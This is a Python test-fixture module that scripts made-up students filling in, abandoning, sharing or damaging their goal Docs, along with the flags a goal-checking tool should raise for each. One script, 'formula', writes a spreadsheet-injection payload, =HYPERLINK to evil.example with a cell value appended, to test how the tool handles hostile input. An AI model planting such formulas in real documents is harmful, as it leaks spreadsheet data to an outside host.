"""Scripted students: who they are, what each writes in the goal Doc, and which flags that should raise."""

from __future__ import annotations

import random
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass, field
from datetime import date, timedelta

from pdsync.sandbox.handwriting import Desk, Page, Request, back_to_front, choosing, erasing, writing
from pdsync.sandbox.phrases import FIRST, JOB_SEARCH, LAST, PROFESSIONAL, SPECIAL

SECTIONS = ("Specific", "Measurable", "Achievable", "Relevant", "Timebound")


@dataclass(frozen=True, slots=True)
class Term:
    """The days that a cohort's students write about."""

    today: date
    start: date
    end: date

    def said(self, when: str) -> str:
        """What a student writes for `later`, `soon`, `past` or `after`; any other text is written as it is."""
        days = {
            "later": self.today + timedelta(days=12),
            "soon": self.today + timedelta(days=3),
            "past": self.today - timedelta(days=4),
            "after": self.end + timedelta(days=20),
        }
        day = days.get(when)
        return when if day is None else f"By {day:%A}, {day:%B} {day.day}, {day.year}."


@dataclass(frozen=True, slots=True)
class Draft:
    """What a student writes for one goal: which sections, when it is due, and the status chosen ("" leaves it)."""

    when: str = "later"
    sections: tuple[str, ...] = SECTIONS
    status: str = "In progress"


@dataclass(frozen=True, slots=True)
class Script:
    """What a student does, and the flags that it should raise: kind and number of the goal (None: the whole Doc).

    `specific`: what the words of Specific are put into; `after`: what is done at the end; `status`: the roster's.
    """

    name: str
    does: str
    drafts: tuple[Draft | None, ...] = ()
    flags: tuple[tuple[str, int | None], ...] = ()
    specific: str = "{}"
    after: str = ""
    suggests: bool = False
    status: str = ""


WHOLE = (Draft(), Draft())
SCRIPTS = (
    Script("whole", "writes both goals in full", WHOLE),
    Script("untouched", "writes nothing", flags=(("not-started", None),)),
    Script(
        "overdue",
        "lets a due date pass with the goal in progress",
        (Draft("past"), Draft()),
        (("overdue", 1),),
    ),
    Script("done", "finishes both goals", (Draft("past", status="Done"), Draft(status="Done"))),
    Script(
        "half filled",
        "stops after two questions of the first goal",
        (Draft(sections=("Specific", "Measurable"), status=""),),
        (("missing-goal", None), ("incomplete", 1)),
    ),
    Script("one goal", "writes one goal only", (Draft(),), (("missing-goal", None),)),
    Script("tbd", "answers Timebound with TBD", (Draft("TBD"), Draft()), (("incomplete", 1),)),
    Script(
        "no date",
        "names no day",
        (Draft(), Draft("When I feel ready for it.")),
        (("no-due-date", 2),),
    ),
    Script("due soon", "has a goal due in three days", (Draft("soon"), Draft()), (("due-soon", 1),)),
    Script("table destroyed", "deletes the progress log", WHOLE, after="delete the tables"),
    Script("suggesting", "writes everything in suggestion mode", WHOLE, suggests=True),
    Script(
        "after the module",
        "plans past the module's end",
        (Draft(), Draft("after")),
        (("after-module-end", 2),),
    ),
    Script("link-shared", "shares the Doc with anyone by link", WHOLE, (("shared-too-widely", None),), after="share"),
    Script("second tab", "writes the second goal in a second tab", (Draft(),), after="write in a tab"),
    Script(
        "formula",
        "writes what a spreadsheet would run",
        (Draft(), Draft()),
        specific='=HYPERLINK("https://evil.example?"&A1,"{}")',
    ),
    Script("excused", "is excused and writes nothing", status="excused"),
    Script(
        "missing section",
        "leaves Relevant open",
        (Draft(), Draft(sections=("Specific", "Measurable", "Achievable", "Timebound"))),
        (("incomplete", 2),),
    ),
    Script("early", "is done with one goal and works on the other", (Draft("past", status="Done"), Draft())),
    Script("withdrawn", "left the cohort", status="withdrawn"),
)
"""Every script. A cohort has each at least once when it is large enough; the earlier ones come first."""


@dataclass(frozen=True, slots=True)
class Player:
    """One made-up student and the script they follow. `goals`: their words by section, for goal 1 and goal 2."""

    key: str
    name: str
    preferred_name: str
    email: str
    script: Script
    goals: tuple[dict[str, str], dict[str, str]] = field(repr=False)

    def expected(self) -> tuple[tuple[str, str, int | None], ...]:
        """The flags that pdsync should raise: key, kind, number of the goal."""
        return tuple((self.key, kind, number) for kind, number in self.script.flags)


def cast(count: int, *, seed: int) -> tuple[Player, ...]:
    """So many made-up students, the same for the same seed: names of all kinds, two of them alike."""
    chance = random.Random(seed)
    scripts = [*SCRIPTS[:count], *chance.choices(SCRIPTS[:9], k=max(0, count - len(SCRIPTS)))]
    chance.shuffle(scripts)
    players = []
    for number, (script, (name, preferred)) in enumerate(zip(scripts, _names(chance), strict=False), start=1):
        goals = (dict(chance.choice(PROFESSIONAL)), dict(chance.choice(JOB_SEARCH)))
        key = f"s{number:03}"
        players.append(Player(key, name, preferred, f"{key}@students.example", script, goals))
    return tuple(players)


def _names(chance: random.Random) -> Iterator[tuple[str, str]]:
    yield from SPECIAL
    while True:
        first = chance.choice(FIRST)
        yield f"{first} {chance.choice(LAST)}", chance.choice(("", "", "", first[:3]))


def play(player: Player, desk: Desk, term: Term) -> str:
    """Do what the script says in the student's own Doc; its id, "" if the student has none or writes nothing."""
    docs = desk.docs()
    if not docs or not (player.script.drafts or player.script.after):
        return ""
    doc = docs[0]
    _write(player, desk, doc, term)
    if player.script.after:
        ACTS[player.script.after](player, desk, doc, term)
    return doc


def _write(player: Player, desk: Desk, doc: str, term: Term) -> None:
    page = desk.page(doc)
    changes = [
        change
        for number, draft in enumerate(player.script.drafts)
        if draft
        for change in _draft(player, page, number, draft, term)
    ]
    if changes:
        desk.edit(doc, back_to_front(changes), suggest=player.script.suggests)


def _draft(player: Player, page: Page, number: int, draft: Draft, term: Term) -> Iterator[list[Request]]:
    for section in draft.sections:
        words = term.said(draft.when) if section == "Timebound" else player.goals[number][section]
        if section == "Specific":
            words = player.script.specific.format(words)
        yield writing(*page.below(section)[number], words)
    if draft.status and not player.script.suggests:
        yield choosing(page, page.below("Status")[number][0], draft.status)


def _delete_tables(player: Player, desk: Desk, doc: str, term: Term) -> None:
    tables = desk.page(doc).tables
    desk.edit(doc, back_to_front([erasing(*table) for table in tables]))


def _write_in_a_tab(player: Player, desk: Desk, doc: str, term: Term) -> None:
    (reply,) = desk.edit(doc, [{"addDocumentTab": {"tabProperties": {"title": "Goal 2"}}}])
    tab = reply["addDocumentTab"]["tabProperties"]["tabId"]
    answers = {**player.goals[1], "Timebound": term.said("later")}
    text = "".join(f"{section}: {words}\n" for section, words in answers.items())
    desk.edit(doc, [{"insertText": {"location": {"index": 1, "tabId": tab}, "text": f"Goal 2\n{text}"}}])


def _share(player: Player, desk: Desk, doc: str, term: Term) -> None:
    desk.share_by_link(doc)


ACTS: dict[str, Callable[[Player, Desk, str, Term], None]] = {
    "delete the tables": _delete_tables,
    "write in a tab": _write_in_a_tab,
    "share": _share,
}


def roster(players: Sequence[Player], *, standing: bool = True) -> list[list[str]]:
    """The players as a roster's rows, heading first; without `standing` all of them are active still."""
    heading = ["key", "name", "preferred_name", "email", "group", "status"]
    groups = ("teal", "amber", "violet")
    rows = [
        [one.key, one.name, one.preferred_name, one.email, groups[number % 3], one.script.status if standing else ""]
        for number, one in enumerate(players)
    ]
    return [heading, *rows]
